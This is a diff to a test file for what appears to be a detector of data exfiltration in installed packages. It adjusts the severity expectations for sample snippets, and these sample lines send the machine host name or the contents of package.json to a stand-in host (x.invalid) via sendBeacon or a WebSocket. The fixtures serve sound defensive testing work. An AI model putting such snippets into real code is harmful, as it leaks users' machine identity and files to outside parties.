@@ -40,10 +40,22 @@ const CASES: DetectorCase[] = [
     twin: { code: "const fs = require('fs');\nconst ws = new WebSocket('wss://x.invalid');\nws.send(fs.readFileSync('./package.json', 'utf8'));" },
   },
   {
-    name: 'page host name in a beacon',
+    name: "a page's own origin in a beacon is routine (the browser sends it anyway): low",
     code: "navigator.sendBeacon('https://x.invalid/b', location.hostname);",
-    expect: [{ severity: 'medium', sourceKind: 'hostname' }],
+    expect: [{ severity: 'low', sourceKind: 'hostname' }],
     twin: { code: "navigator.sendBeacon('https://x.invalid/b', 'ping');" },
+  },
+  {
+    name: 'the machine host name in a beacon',
+    code: "const os = require('os');\nnavigator.sendBeacon('https://x.invalid/b', os.hostname());",
+    expect: [{ severity: 'medium', sourceKind: 'hostname' }],
+    twin: { code: "const os = require('os');\nnavigator.sendBeacon('https://x.invalid/b', os.platform());" },
+  },
+  {
+    name: 'interface names passed to a local system tool are routine: low',
+    code: "const { execFile } = require('child_process');\nconst os = require('os');\nexecFile(bin, ['-s', Object.keys(os.networkInterfaces())[0]], cb);",
+    expect: [{ severity: 'low', sourceKind: 'network' }],
+    twin: { code: "const { execFile } = require('child_process');\nexecFile(bin, ['-s', 'eth0'], cb);" },
   },
   {
     name: 'minified: CI identity returned by a helper and sent',
@@ -85,7 +97,7 @@ function reportsFor(detector: Detector, code: string): DetectorReport[] {
 describe('install-time escalation', () => {
   it.each<[string, Detector, string, string]>([
     ['a host name sent away', fingerprintExfiltration, CASES[0]?.code ?? '', 'critical'],
-    ['a timezone sent away', fingerprintExfiltration, CASES[7]?.code ?? '', 'medium'],
+    ['a timezone sent away', fingerprintExfiltration, CASES.find((c) => c.name.startsWith('timezone in a header'))?.code ?? '', 'medium'],
     [
       'targeting that deletes files',
       identityTargeting,
